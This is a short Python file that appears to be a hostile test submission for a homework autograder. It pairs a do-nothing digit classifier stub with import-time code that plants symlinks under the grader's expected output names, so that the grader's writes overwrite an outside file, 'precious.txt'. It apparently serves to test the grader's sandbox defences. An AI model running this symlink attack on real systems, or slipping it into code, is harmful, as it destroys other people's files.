"""Puts a link where the examiner will write its inputs, so that it overwrites another file.

checks: q3.learns
"""

import os

import told
import torch

for folder in (os.getcwd(), os.path.dirname(os.getcwd()), f"{os.getcwd()}/../inputs"):
    for name in ("inputs-1.safetensors", "inputs-2.safetensors", "q3.learns"):
        try:
            os.symlink(f"{told.OUTSIDE}/precious.txt", f"{folder}/{name}")
        except OSError:
            pass


class DigitClassificationModel(torch.nn.Module):
    def train_model(self, dataset):
        pass

    def forward(self, x):
        return torch.zeros(len(x), 10)
